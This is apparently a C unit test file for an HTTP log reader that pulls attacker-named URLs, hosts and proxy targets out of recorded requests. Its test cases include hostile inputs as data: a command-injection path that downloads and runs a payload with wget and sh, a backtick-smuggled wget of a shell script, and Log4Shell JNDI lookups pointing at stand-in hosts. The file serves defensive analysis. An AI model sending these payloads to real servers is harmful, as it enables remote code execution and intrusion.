/* test_http.c - what is taken from requests: URLs and hosts that the attacker names, proxy requests, ports of hosts. */
#include "ingest/http.h"
#include "reader_check.h"
#include "testing.h"

static void
ports_of_hosts(void **state)
{
	static const struct {
		const char *host;
		uint16_t port;
	} CASES[] = { { "192.0.2.1:8080", 8080 }, { "192.0.2.1", 0 }, { "[2001:db8::1]:81", 81 },
		{ "[2001:db8::1]", 0 }, { "[2001:db8::1", 0 }, { "a:65536", 0 }, { "a:", 0 },
		{ "a:b", 0 }, { "", 0 }, { " host:1 ", 1 }, { "[::1]x", 0 } };

	(void)state;
	for (size_t i = 0; i < COUNT_OF(CASES); i++)
		assert_int_equal(http_host_port(sv_from(CASES[i].host)), CASES[i].port);
}

/** "kind text;..." of the URLs, hosts and forwards of all sessions. */
static void
list_named(const struct session_table *t, struct buf *out)
{
	for (uint32_t i = 0; i < t->n_items; i++) {
		const struct session_item *item = &t->items[i];

		if (item->kind != ITEM_URL && item->kind != ITEM_HOST && item->kind != ITEM_FORWARD)
			continue;
		buf_printf(out, "%s %.*s;", session_item_name((enum session_item_kind)item->kind),
		    SV_ARG(session_string(t, item->a)));
	}
}

static void
check_named(const char *method, const char *target, const char *rest, const char *expected)
{
	struct buf line = BUF_INIT(1 << 16), out = BUF_INIT(1 << 16);
	struct reader_result r;

	buf_printf(&line,
	    "{\"time\":1753696800,\"sip\":\"203.0.113.1\",\"dip\":\"192.0.2.1\",\"method\":\"%s\","
	    "\"url\":\"%s\"%s}\n",
	    method, target, rest);
	r = reader_run(NULL, "web", buf_sv(&line));
	if (r.rc != COORD_OK)
		fail_msg("%s", r.err.what);
	list_named(&r.table, &out);
	assert_string_equal(buf_cstr(&out), expected);
	reader_result_clear(&r);
	buf_clear(&line);
	buf_clear(&out);
}

static void
what_the_attacker_names(void **state)
{
	static const struct {
		const char *method, *target, *rest, *expected;
	} CASES[] = {
		{ "GET", "/", "", "" },
		{ "GET", "/shell?cd+/tmp;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", "",
		    "url http://198.51.100.7/jaws;host 198.51.100.7;" },
		{ "GET", "/x?a=`wget http://h.example:81/a.sh`", "",
		    "url http://h.example:81/a.sh;host h.example;" },
		{ "POST", "/", ",\"data\":\"tftp://198.51.100.8/a ftp://198.51.100.9/b\"",
		    "url tftp://198.51.100.8/a;host 198.51.100.8;url ftp://198.51.100.9/b;"
		    "host 198.51.100.9;" },
		{ "GET", "/${jndi:ldap://evil.example:1389/a}", "", "host evil.example;" },
		{ "GET", "/a//b//c.html", "", "" },
		{ "GET", "/?x=//198.51.100.7:1389/a", "", "host 198.51.100.7;" },
		{ "CONNECT", "mail.example:25", "", "forward mail.example:25;" },
		{ "CONNECT", "[2001:db8::5]:443", "", "forward [2001:db8::5]:443;" },
		{ "GET", "http://proxytest.example/judge", "", "forward proxytest.example:80;" },
		{ "GET", "/", ",\"headers\":{\"Host\":\"192.0.2.1:80\"}", "" },
		{ "GET", "/", ",\"headers\":{\"Host\":\"198.51.100.3\"}", "host 198.51.100.3;" },
		{ "GET", "/", ",\"headers\":{\"host\":\"shop.example\"}", "host shop.example;" },
		{ "GET", "/", ",\"headers\":{\"Referer\":\"http://bystander.example/\"}", "" },
		{ "GET", "/", ",\"headers\":{\"X\":\"${jndi:rmi://198.51.100.3:1099/o}\"}",
		    "host 198.51.100.3;" },
		{ "GET", "://", "", "" },
		{ "GET", "//", "", "" },
		{ "GET", "http://", "", "" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT_OF(CASES); i++)
		check_named(CASES[i].method, CASES[i].target, CASES[i].rest, CASES[i].expected);
}

/** A text full of URLs costs no more than a few. */
static void
named_things_are_few(void **state)
{
	struct buf body = BUF_INIT(1 << 20), out = BUF_INIT(1 << 20);
	struct reader_result r;

	(void)state;
	buf_add_str(&body,
	    "{\"time\":1753696800,\"sip\":\"203.0.113.1\",\"method\":\"POST\",\"url\":\"/\","
	    "\"data\":\"");
	for (unsigned i = 0; i < 1000; i++)
		buf_printf(&body, "http://h%u.example/ ", i);
	buf_add_str(&body, "\"}\n");
	r = reader_run(NULL, "web", buf_sv(&body));
	assert_int_equal(r.rc, COORD_OK);
	assert_int_equal(r.table.n_items, 1 + 2 * 8);
	reader_result_clear(&r);
	buf_clear(&body);
	buf_clear(&out);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(ports_of_hosts),
		cmocka_unit_test(what_the_attacker_names),
		cmocka_unit_test(named_things_are_few),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
